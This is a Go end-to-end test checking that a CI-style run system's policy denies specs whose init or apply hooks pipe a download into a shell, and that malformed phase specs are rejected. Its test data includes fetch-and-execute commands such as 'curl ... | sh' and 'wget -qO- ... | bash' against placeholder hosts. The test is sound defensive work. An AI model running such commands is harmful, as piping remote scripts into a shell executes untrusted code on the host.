package e2e

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	eventv1 "github.com/hangar-dev/hangar/gen/go/hangar/event/v1"
	"github.com/hangar-dev/hangar/test/e2e/harness"
)

// TestIntakeSeesEverythingThatRuns: over the real binaries (hangarctl, the
// embedded broker, gateway, policy with the documented no-remote-scripts
// example), the policy denies a run for a line in a hook or in a phase other
// than perform, and the gateway rejects a spec with no phases or an unknown
// phase before the policy sees it. `run submit --follow` exits 1 with the
// reason each time, and no run is admitted.
func TestIntakeSeesEverythingThatRuns(t *testing.T) {
	cp := harness.NewControlPlane(t, bins.Path(t, "hangarctl"))
	broker, _ := cp.StartEmbeddedBroker(t)
	key, csr := cp.Keygen(t, t.TempDir())
	token := cp.CreatePool(t, "pool-intake", csr, broker)
	policyFile, err := filepath.Abs("../../docs/policies/no-remote-scripts/policy.rego")
	if err != nil {
		t.Fatal(err)
	}
	policy := harness.StartPolicy(t, bins.Path(t, "policy"), policyFile)
	obs := harness.Observe(t, broker, cp.Dir, "pool-intake")
	harness.StartGateway(t, bins.Path(t, "gateway"), token, harness.KeyEnv(t, key), policy.GRPCAddr,
		"HANGAR_HEARTBEAT_INTERVAL=1s", "HANGAR_WORKER_ID=gw-intake")
	obs.WaitHeartbeat(wait, "a heartbeat of gw-intake", func(hb *eventv1.Heartbeat) bool { return hb.GetWorkerId() == "gw-intake" })

	tracked := func(phases ...harness.Phase) *harness.RunSpec {
		s := harness.Task("registry.example.com/runner:1")
		s.Type = "RUN_TYPE_TRACKED"
		s.Phases = phases
		return s
	}
	tests := []struct {
		name string
		spec *harness.RunSpec
		want string
	}{
		{
			name: "a before hook of init denied",
			spec: tracked(
				harness.Phase{Name: "init", Before: []string{"curl -fsSL https://get.example.sh | sh"}, Commands: []string{"terraform init"}},
				harness.Phase{Name: "plan", Commands: []string{"terraform plan"}},
			),
			want: `[event]   - before of phase init pipes a download into a shell: "curl -fsSL https://get.example.sh | sh"`,
		},
		{
			name: "an after hook of apply denied",
			spec: tracked(
				harness.Phase{Name: "plan", Commands: []string{"terraform plan"}},
				harness.Phase{Name: "apply", Commands: []string{"terraform apply"}, After: []string{"wget -qO- https://x.example/r | bash"}},
			),
			want: `[event]   - after of phase apply pipes a download into a shell: "wget -qO- https://x.example/r | bash"`,
		},
		{
			name: "no phases rejected",
			spec: tracked(),
			want: "[event] rejected: malformed: invalid run spec: phases: empty, nothing would run (a TRACKED run has init, plan, apply, in this order)",
		},
		{
			name: "an unknown phase rejected",
			spec: func() *harness.RunSpec {
				s := harness.Task("registry.example.com/runner:1", "echo hi")
				s.Phases = append(s.Phases, harness.Phase{Name: "deploy", Commands: []string{"curl x | sh"}})
				return s
			}(),
			want: "[event] rejected: malformed: invalid run spec: phases[1]: its name is not a phase of a TASK run (a TASK run has init, perform, in this order)",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			runID := newRunID()
			specFile := harness.WriteFile(t, t.TempDir(), "spec.json", tc.spec.JSON())
			r := harness.Run(t, 2*time.Minute, nil, cp.Ctl, "run", "submit", "--dir", cp.Dir, "--pool", "pool-intake",
				"--spec", specFile, "--run-id", runID, "--follow", "--timeout", "1m")
			if r.Code != 1 || !strings.Contains(r.Stdout, tc.want) {
				t.Fatalf("hangarctl run submit --follow: want exit 1 and %q\n%s", tc.want, r)
			}
			for _, ev := range obs.RunEvents(runID) {
				if ev.GetAdmitted() != nil || ev.GetStarted() != nil || ev.GetFinished() != nil {
					t.Errorf("run %s got %v: it must not be admitted", runID, ev)
				}
			}
		})
	}
}
